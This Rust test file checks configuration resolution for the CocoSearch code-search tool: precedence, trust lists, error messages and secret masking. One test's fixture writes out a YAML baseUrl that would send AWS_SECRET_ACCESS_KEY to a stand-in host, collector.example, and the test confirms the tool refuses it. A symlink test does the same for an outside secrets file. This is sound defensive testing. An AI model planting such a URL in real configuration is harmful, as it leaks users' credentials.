//! Resolution tests: precedence, sources, and error messages, on temporary directories.

use super::*;

struct Fixture {
    dir: tempfile::TempDir,
}

impl Fixture {
    fn new(yaml: Option<&str>) -> Fixture {
        let dir = tempfile::tempdir().expect("tempdir");
        std::fs::create_dir(dir.path().join(".git")).expect("mkdir .git");
        if let Some(yaml) = yaml {
            std::fs::write(dir.path().join("cocosearch.yaml"), yaml).expect("write yaml");
        }
        Fixture { dir }
    }

    fn resolve(&self, env: &[(&str, &str)], overrides: &[Override]) -> Result<Config, ConfigError> {
        let env = Env::from_pairs(env.iter().map(|(k, v)| (k.to_string(), v.to_string())));
        Config::resolve(&Request { config_file: None, cwd: self.dir.path(), overrides, env: &env })
    }
}

fn set(key: &str, value: &str) -> Override {
    Override { key: key.into(), value: Raw::Text(value.into()), flag: format!("--set {key}") }
}

#[test]
fn every_layer_wins_over_the_one_below() {
    let fx = Fixture::new(Some(
        "indexName: fromfile\nsearch:\n  resultLimit: 7\n  minScore: 0.25\nembedding:\n  model: filemodel\n",
    ));
    let cfg = fx
        .resolve(
            &[("COCOSEARCH_EMBEDDING_MODEL", "envmodel"), ("COCOSEARCH_SEARCH_MIN_SCORE", "0.5")],
            &[set("search.minScore", "0.75")],
        )
        .expect("resolves");
    assert_eq!(cfg.settings.search.result_limit, 7);
    assert_eq!(cfg.settings.embedding.model, "envmodel");
    assert_eq!(cfg.settings.search.min_score, 0.75);
    assert_eq!(cfg.settings.database.url, registry::DEFAULT_DATABASE_URL);
    assert_eq!(cfg.index_name(), "fromfile");

    assert_eq!(cfg.source("search.resultLimit").to_string(), "file cocosearch.yaml:3");
    assert_eq!(cfg.source("embedding.model").to_string(), "env COCOSEARCH_EMBEDDING_MODEL");
    assert_eq!(cfg.source("search.minScore").to_string(), "cli --set search.minScore");
    assert_eq!(cfg.source("database.url").to_string(), "default");
}

#[test]
fn ollama_url_alias_yields_to_the_canonical_variable() {
    let fx = Fixture::new(None);
    let cfg = fx.resolve(&[("COCOSEARCH_OLLAMA_URL", "http://a:1")], &[]).expect("resolves");
    assert_eq!(cfg.settings.embedding.effective_base_url(), "http://a:1");
    assert_eq!(cfg.source("embedding.baseUrl").to_string(), "env COCOSEARCH_OLLAMA_URL");
    let cfg = fx
        .resolve(&[("COCOSEARCH_OLLAMA_URL", "http://a:1"), ("COCOSEARCH_EMBEDDING_BASE_URL", "http://b:2")], &[])
        .expect("resolves");
    assert_eq!(cfg.settings.embedding.effective_base_url(), "http://b:2");
}

#[test]
fn yaml_substitution_feeds_typed_values() {
    let fx = Fixture::new(Some(
        "search:\n  resultLimit: ${COCOSEARCH_LIMIT:-12}\ndatabase:\n  url: postgresql://u:${COCOSEARCH_PW}@h/db\n",
    ));
    // database.url decides where code goes: the project's own file needs the user's trust.
    let trust = tempfile::tempdir().expect("config dir");
    let config_dir = trust.path().to_str().expect("utf-8");
    let err = fx.resolve(&[("COCOSEARCH_PW", "hunter2"), ("XDG_CONFIG_HOME", config_dir)], &[]).expect_err("untrusted");
    assert!(matches!(&err, ConfigError::Untrusted { key, .. } if key == "database.url"), "{err}");
    TrustList::at(trust.path().join("cocosearch").join("trusted-projects"))
        .trust(&fx.dir.path().join("cocosearch.yaml"))
        .expect("trust");
    let cfg = fx.resolve(&[("COCOSEARCH_PW", "hunter2"), ("XDG_CONFIG_HOME", config_dir)], &[]).expect("resolves");
    assert_eq!(cfg.settings.search.result_limit, 12);
    assert_eq!(cfg.settings.database.url, "postgresql://u:hunter2@h/db");
    let shown = cfg.entries().into_iter().find(|e| e.key == "database.url").and_then(|e| e.value).expect("value");
    assert_eq!(shown, serde_json::json!("postgresql://u:***@h/db"));
    let err = fx.resolve(&[("XDG_CONFIG_HOME", config_dir)], &[]).expect_err("PW unset");
    assert!(err.to_string().contains("environment variable COCOSEARCH_PW is not set"), "{err}");
}

#[test]
fn a_project_file_cannot_read_other_environment_variables() {
    // A cloned repository's own file must not copy secrets from the environment into a URL
    // it controls; a file the user names may.
    let yaml = "embedding:\n  baseUrl: http://collector.example/?k=${AWS_SECRET_ACCESS_KEY}\n";
    let fx = Fixture::new(Some(yaml));
    let secret = [("AWS_SECRET_ACCESS_KEY", "s3cr3t")];
    let err = fx.resolve(&secret, &[]).expect_err("refused");
    let text = err.to_string();
    assert!(text.contains("${AWS_SECRET_ACCESS_KEY} is not expanded") && text.contains("--config"), "{text}");
    assert!(!text.contains("s3cr3t"), "{text}");
    let named = fx.dir.path().join("cocosearch.yaml");
    let env = Env::from_pairs(secret.iter().map(|(k, v)| (k.to_string(), v.to_string())));
    let cfg = Config::resolve(&Request { config_file: Some(&named), cwd: fx.dir.path(), overrides: &[], env: &env })
        .expect("a file named with --config may");
    assert!(cfg.settings.embedding.effective_base_url().ends_with("s3cr3t"));
}

#[test]
fn wrong_types_name_the_place() {
    let fx = Fixture::new(Some("search:\n  resultLimit: lots\n"));
    let err = fx.resolve(&[], &[]).expect_err("bad type");
    let text = err.to_string();
    assert!(
        text.contains("cocosearch.yaml:2: `search.resultLimit`: expected a non-negative integer, found \"lots\""),
        "{text}"
    );

    let fx = Fixture::new(None);
    let err = fx.resolve(&[("COCOSEARCH_SEARCH_RESULT_LIMIT", "ten")], &[]).expect_err("bad env");
    assert!(
        err.to_string().starts_with("environment variable COCOSEARCH_SEARCH_RESULT_LIMIT: `search.resultLimit`"),
        "{err}"
    );

    let err = fx.resolve(&[("COCOSEARCH_EMBEDDING_PROVIDER", "olama")], &[]).expect_err("bad enum");
    assert!(err.to_string().contains("did you mean `ollama`?"), "{err}");

    let fx = Fixture::new(Some("search:\n  minScore: 3\n"));
    let err = fx.resolve(&[], &[]).expect_err("out of range");
    assert!(err.to_string().contains("cocosearch.yaml:2: `search.minScore`: must be between 0 and 1"), "{err}");
}

#[test]
fn unknown_keys_are_errors_with_suggestions() {
    let fx = Fixture::new(Some("indexName: x\nembedding:\n  modle: foo\n"));
    let err = fx.resolve(&[], &[]).expect_err("unknown key");
    assert_eq!(
        err.to_string(),
        format!(
            "{}:3: unknown key `embedding.modle` — did you mean `embedding.model`?",
            fx.dir.path().join("cocosearch.yaml").display()
        )
    );
    let err = Fixture::new(None).resolve(&[], &[set("search.limit", "3")]).expect_err("unknown --set key");
    assert!(err.to_string().contains("unknown key `search.limit`"), "{err}");
}

#[test]
fn config_file_is_found_up_to_the_git_root_only() {
    let fx = Fixture::new(Some("indexName: top\n"));
    let sub = fx.dir.path().join("a/b");
    std::fs::create_dir_all(&sub).expect("mkdir");
    let env = Env::default();
    let cfg = Config::resolve(&Request { config_file: None, cwd: &sub, overrides: &[], env: &env }).expect("resolves");
    assert_eq!(cfg.index_name(), "top");
    assert_eq!(cfg.project_root, fx.dir.path().canonicalize().expect("canonical"));

    // Inside a nested repository the outer file is out of reach.
    std::fs::create_dir(sub.join(".git")).expect("mkdir");
    let cfg = Config::resolve(&Request { config_file: None, cwd: &sub, overrides: &[], env: &env }).expect("resolves");
    assert!(cfg.file.is_none());
    assert_eq!(cfg.index_name(), "b");
}

#[test]
fn a_config_file_linking_out_of_the_project_is_refused() {
    let fx = Fixture::new(None);
    let outside = tempfile::tempdir().expect("tempdir");
    std::fs::write(outside.path().join("secrets.yaml"), "AWS_SECRET: hunter2\n").expect("write");
    std::os::unix::fs::symlink(outside.path().join("secrets.yaml"), fx.dir.path().join("cocosearch.yaml"))
        .expect("symlink");
    let err = fx.resolve(&[], &[]).expect_err("refused");
    assert!(matches!(err, ConfigError::LinkOutside(_)), "{err}");
    assert!(!err.to_string().contains("hunter2") && !err.to_string().contains("AWS_SECRET"), "{err}");
    // Named explicitly, it is the user's choice.
    let path = outside.path().join("secrets.yaml").display().to_string();
    let err = fx.resolve(&[("COCOSEARCH_CONFIG", &path)], &[]).expect_err("unknown key");
    assert!(!matches!(err, ConfigError::LinkOutside(_)), "{err}");
    // A link inside the project is fine.
    std::fs::remove_file(fx.dir.path().join("cocosearch.yaml")).expect("remove");
    std::fs::write(fx.dir.path().join("real.yaml"), "indexName: linked\n").expect("write");
    std::os::unix::fs::symlink("real.yaml", fx.dir.path().join("cocosearch.yaml")).expect("symlink");
    assert_eq!(fx.resolve(&[], &[]).expect("resolves").index_name(), "linked");
}

#[test]
fn explicit_config_file_must_exist() {
    let fx = Fixture::new(None);
    let err = fx.resolve(&[("COCOSEARCH_CONFIG", "nope.yaml")], &[]).expect_err("missing");
    assert!(err.to_string().contains("(from env COCOSEARCH_CONFIG) does not exist"), "{err}");
}

#[test]
fn unknown_cocosearch_variables_are_warned_about() {
    let fx = Fixture::new(None);
    let cfg = fx
        .resolve(&[("COCOSEARCH_SEARCH_RESULTLIMIT", "3"), ("COCOSEARCH_TEST_DATABASE_URL", "x")], &[])
        .expect("resolves");
    assert_eq!(cfg.warnings.len(), 1, "{:?}", cfg.warnings);
    assert!(cfg.warnings[0].contains("did you mean COCOSEARCH_SEARCH_RESULT_LIMIT?"), "{:?}", cfg.warnings);
}

#[test]
fn secrets_never_show() {
    let fx = Fixture::new(None);
    let cfg = fx
        .resolve(
            &[("COCOSEARCH_EMBEDDING_API_KEY", "sk-verysecret"), ("COCOSEARCH_DATABASE_URL", "postgresql://a:pw@h/d")],
            &[],
        )
        .expect("resolves");
    let rendered = format!("{:?}", cfg.entries().iter().map(|e| e.value.clone()).collect::<Vec<_>>());
    assert!(!rendered.contains("sk-verysecret") && !rendered.contains(":pw@"), "{rendered}");
}

#[test]
fn the_builtin_provider_has_its_own_default_model() {
    let fx = Fixture::new(None);
    let cfg = fx.resolve(&[("COCOSEARCH_EMBEDDING_PROVIDER", "builtin")], &[]).expect("resolves");
    assert_eq!(cfg.settings.embedding.provider, Provider::Builtin);
    assert_eq!(cfg.settings.embedding.model, registry::DEFAULT_BUILTIN_MODEL);
    assert_eq!(cfg.settings.embedding.model_origin, Origin::Default);
    assert_eq!(cfg.settings.embedding.hub_url, registry::DEFAULT_HUB_URL);

    let cfg = fx
        .resolve(&[("COCOSEARCH_EMBEDDING_PROVIDER", "builtin")], &[set("embedding.model", "all-minilm-l6-v2")])
        .expect("resolves");
    assert_eq!(cfg.settings.embedding.model, "all-minilm-l6-v2");
    assert_eq!(cfg.settings.embedding.model_origin, Origin::Configured);

    // A local model directory names itself: the default model name is not forced on it.
    let cfg = fx
        .resolve(&[("COCOSEARCH_EMBEDDING_PROVIDER", "builtin"), ("COCOSEARCH_EMBEDDING_MODEL_PATH", "/models/m")], &[])
        .expect("resolves");
    assert_eq!(cfg.settings.embedding.model_path.as_deref(), Some(std::path::Path::new("/models/m")));
    assert_eq!(cfg.settings.embedding.model_origin, Origin::Default);

    // Other providers keep theirs.
    let cfg = fx.resolve(&[], &[]).expect("resolves");
    assert_eq!(cfg.settings.embedding.model, "nomic-embed-text");
}

#[test]
fn the_hub_url_follows_hf_endpoint_and_is_checked() {
    let fx = Fixture::new(None);
    let cfg = fx.resolve(&[("HF_ENDPOINT", "https://hf-mirror.example")], &[]).expect("resolves");
    assert_eq!(cfg.settings.embedding.hub_url, "https://hf-mirror.example");
    let cfg = fx
        .resolve(&[("HF_ENDPOINT", "https://a.example"), ("COCOSEARCH_EMBEDDING_HUB_URL", "http://127.0.0.1:9")], &[])
        .expect("resolves");
    assert_eq!(cfg.settings.embedding.hub_url, "http://127.0.0.1:9", "the canonical variable wins");
    let err = fx.resolve(&[("COCOSEARCH_EMBEDDING_HUB_URL", "ftp://x")], &[]).err().map(|e| e.to_string());
    assert!(err.as_deref().is_some_and(|e| e.contains("embedding.hubUrl")), "{err:?}");
}

#[test]
fn a_cocosearch_file_takes_effect_with_one_warning_for_what_does_not() {
    let fx = Fixture::new(Some(
        "indexName: My-App\nlinkedIndexes: [shared-lib, tools]\nindexing:\n  chunkSize: 1000\n  chunkOverlap: 300\nsearch:\n  minScore: 0.3\ncontroller:\n  enabled: true\n  baseUrl: http://localhost:11434\nlogging:\n  file: true\n",
    ));
    let file = fx.dir.path().join("cocosearch.yaml");
    // Named with COCOSEARCH_CONFIG, the file is the user's own: linkedIndexes needs no trust.
    let cfg = fx.resolve(&[("COCOSEARCH_CONFIG", file.to_str().expect("utf-8"))], &[]).expect("resolves");
    assert_eq!(cfg.index_name(), "my_app");
    assert_eq!(cfg.settings.linked_indexes, ["shared_lib", "tools"]);
    assert_eq!(cfg.settings.indexing.chunk_size, 1000);
    assert_eq!(cfg.settings.indexing.chunk_overlap, 300);
    assert_eq!(cfg.settings.search.min_score, 0.3);
    assert_eq!(cfg.source("indexing.chunkSize").to_string(), "file cocosearch.yaml:4");
    // The controller (query rewrite) takes effect too.
    assert!(cfg.settings.controller.enabled);
    assert_eq!(cfg.settings.controller.base_url.as_deref(), Some("http://localhost:11434"));
    assert_eq!(
        cfg.warnings,
        [
            format!(
                "{}: a CocoSearch setting with no effect here: logging.file",
                file.display()
            ),
            "indexName: index name `My-App` is used as `my_app` (index names are lowercase letters, digits and underscores)"
                .to_string(),
            "linkedIndexes: index name `shared-lib` is used as `shared_lib` (index names are lowercase letters, digits and underscores)"
                .to_string(),
        ]
    );
    // A name no sanitizing should guess at stays an error.
    let err = fx.resolve(&[("COCOSEARCH_INDEX_NAME", "my app")], &[]).expect_err("a space");
    assert!(err.to_string().contains("invalid index name \"my app\""), "{err}");
}

#[test]
fn openrouter_is_the_openai_compatible_embedder_at_openrouter() {
    let fx = Fixture::new(Some("embedding:\n  provider: openrouter\n"));
    let cfg = fx.resolve(&[("COCOSEARCH_EMBEDDING_API_KEY", "sk-or-secret")], &[]).expect("resolves");
    assert_eq!(cfg.settings.embedding.provider, Provider::Openrouter);
    assert_eq!(cfg.settings.embedding.effective_base_url(), registry::DEFAULT_OPENROUTER_URL);
    assert_eq!(cfg.settings.embedding.model, registry::DEFAULT_OPENROUTER_MODEL, "CocoSearch's default");
    assert_eq!(Provider::parse("openrouter"), Some(Provider::Openrouter));
    let entries = cfg.entries();
    let shown = |key: &str| entries.iter().find(|e| e.key == key).and_then(|e| e.value.clone());
    assert_eq!(shown("embedding.apiKey"), Some(serde_json::json!("***")));
    assert_eq!(shown("embedding.baseUrl"), Some(serde_json::json!("https://openrouter.ai/api/v1")));
    let cfg = fx.resolve(&[], &[set("embedding.model", "mistral/codestral-embed")]).expect("resolves");
    assert_eq!(cfg.settings.embedding.model, "mistral/codestral-embed");
}

#[test]
fn every_problem_of_every_layer_is_reported_at_once() {
    let fx = Fixture::new(Some(
        "indexName: x\nembedding:\n  modle: foo\n  baseUrl: http://elsewhere:1\nsearch:\n  resultLimit: 0\n",
    ));
    let trust = tempfile::tempdir().expect("config dir");
    let config_dir = trust.path().to_str().expect("utf-8");
    let err = fx
        .resolve(&[("XDG_CONFIG_HOME", config_dir), ("COCOSEARCH_MCP_PORT", "http")], &[set("search.limit", "3")])
        .expect_err("five problems");
    let ConfigError::Several(problems) = &err else { panic!("one error for all: {err}") };
    let text = err.to_string();
    assert_eq!(problems.len(), 5, "{text}");
    for part in [
        "5 problems in the configuration:\n",
        "--set search.limit: unknown key `search.limit`",
        "environment variable COCOSEARCH_MCP_PORT: `mcp.port`: expected a non-negative integer",
        ":3: unknown key `embedding.modle` — did you mean `embedding.model`?",
        ":4: `embedding.baseUrl` decides where your code",
        ":6: `search.resultLimit`: must be between 1 and 1000, found 0",
    ] {
        assert!(text.contains(part), "{part:?} missing from:\n{text}");
    }
}

#[test]
fn cocosearch_variables_without_effect_say_so() {
    let fx = Fixture::new(None);
    let cfg = fx.resolve(&[("COCOSEARCH_LOG_FILE", "true")], &[]).expect("resolves");
    assert_eq!(cfg.warnings, ["a CocoSearch setting with no effect here: environment variable COCOSEARCH_LOG_FILE"]);
}

#[test]
fn index_groups_come_from_a_yaml_mapping_or_the_environment_and_are_checked() {
    let fx = Fixture::new(Some("indexGroups:\n  backend: [api, client]\n  tools: lint, fmt\n"));
    let file = fx.dir.path().join("cocosearch.yaml");
    let cfg = fx.resolve(&[("COCOSEARCH_CONFIG", file.to_str().expect("utf-8"))], &[]).expect("resolves");
    let groups: Vec<(&str, Vec<&str>)> = cfg
        .settings
        .index_groups
        .iter()
        .map(|(name, members)| (name.as_str(), members.iter().map(String::as_str).collect()))
        .collect();
    assert_eq!(groups, [("backend", vec!["api", "client"]), ("tools", vec!["lint", "fmt"])]);

    let fx = Fixture::new(None);
    let cfg = fx.resolve(&[("COCOSEARCH_INDEX_GROUPS", "web = ui, api ; data=warehouse")], &[]).expect("resolves");
    assert_eq!(cfg.settings.index_groups["web"], ["ui", "api"]);
    assert_eq!(cfg.settings.index_groups["data"], ["warehouse"]);
    assert_eq!(cfg.source("indexGroups").to_string(), "env COCOSEARCH_INDEX_GROUPS");

    for (value, fragment) in [
        ("web", "expected groups of index names"),
        ("web=Bad Name", "group web: invalid index name"),
        ("all=a,b", "the group name all is taken"),
        ("empty=", "group empty names no index"),
    ] {
        let err = fx.resolve(&[("COCOSEARCH_INDEX_GROUPS", value)], &[]).expect_err(value);
        assert!(err.to_string().contains(fragment), "{value}: {err}");
    }
}
